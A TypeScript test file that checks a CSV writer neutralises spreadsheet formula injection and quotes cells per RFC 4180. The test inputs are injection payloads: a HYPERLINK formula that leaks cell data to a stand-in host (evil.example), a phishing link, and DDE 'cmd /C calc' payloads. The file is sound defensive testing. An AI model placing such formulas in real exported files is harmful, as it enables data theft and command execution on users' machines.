// The one CSV writer: formula text is neutralised in every text cell, numbers (and text that is
// a number as a whole) are left alone, and quoting follows RFC 4180 so the file parses back.
import t from 'tap'
import { parse } from 'csv-parse/sync'
import { neutraliseFormula, toCsv } from '../../server/http/csv.ts'

t.test('a leading = + - @ tab or CR gets a quote mark unless the whole cell is a number', async t => {
  for (const text of ['=HYPERLINK("https://evil.example/?leak="&P2,"Details")', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+44 20 7946 0000', '\t=1', '\r=1', '\uFF1D1+1']) {
    t.equal(neutraliseFormula(text), `'${text}`, JSON.stringify(text))
  }
  for (const text of ['-0.0925', '12', '+3', '-1e5', '.5', 'The Rising Arms', '', 'a=b', '1-2']) {
    t.equal(neutraliseFormula(text), text, JSON.stringify(text))
  }
})

t.test('toCsv neutralises text cells, keeps numbers, and parses back to the same values', async t => {
  const rows = [
    [1, '=HYPERLINK("https://evil.example","log in again")', -0.0925, '-0.0925', 'line one\nline two', null, undefined, true, new Date('2024-12-06T23:15:00Z')],
    [2, '-2+3+cmd|\' /C calc\'!A0', 51.51, '@SUM(A1)', 'a "quoted" word, and a comma', '', 0, false, { sections: '=1' }]
  ]
  const csv = toCsv(['id', 'text', 'lng', 'lngText', 'multiline', 'empty', 'missing', 'flag', 'at'], rows)
  t.ok(csv.endsWith('\r\n'), 'records end with CRLF')
  t.match(csv, /^id,text,lng,/, 'quotes only where a cell needs them')
  const parsed = parse(csv, { columns: true }) as Record<string, string>[]
  t.equal(parsed.length, 2)
  t.equal(parsed[0]!.text, '\'=HYPERLINK("https://evil.example","log in again")')
  t.equal(parsed[0]!.lng, '-0.0925')
  t.equal(parsed[0]!.lngText, '-0.0925', 'a number written as text is not prefixed')
  t.equal(parsed[0]!.multiline, 'line one\nline two')
  t.equal(parsed[0]!.empty, '')
  t.equal(parsed[0]!.missing, '')
  t.equal(parsed[0]!.flag, 'true')
  t.equal(parsed[0]!.at, '2024-12-06T23:15:00.000Z')
  t.equal(parsed[1]!.text, '\'-2+3+cmd|\' /C calc\'!A0')
  t.equal(parsed[1]!.lngText, '\'@SUM(A1)')
  t.equal(parsed[1]!.multiline, 'a "quoted" word, and a comma')
  t.equal(parsed[1]!.at, '{"sections":"=1"}')
  for (const record of parsed) {
    for (const value of Object.values(record)) t.notMatch(value, /^[=+@\t\r]|^-(?![\d.])/, `no cell starts a formula: ${JSON.stringify(value)}`)
  }
})
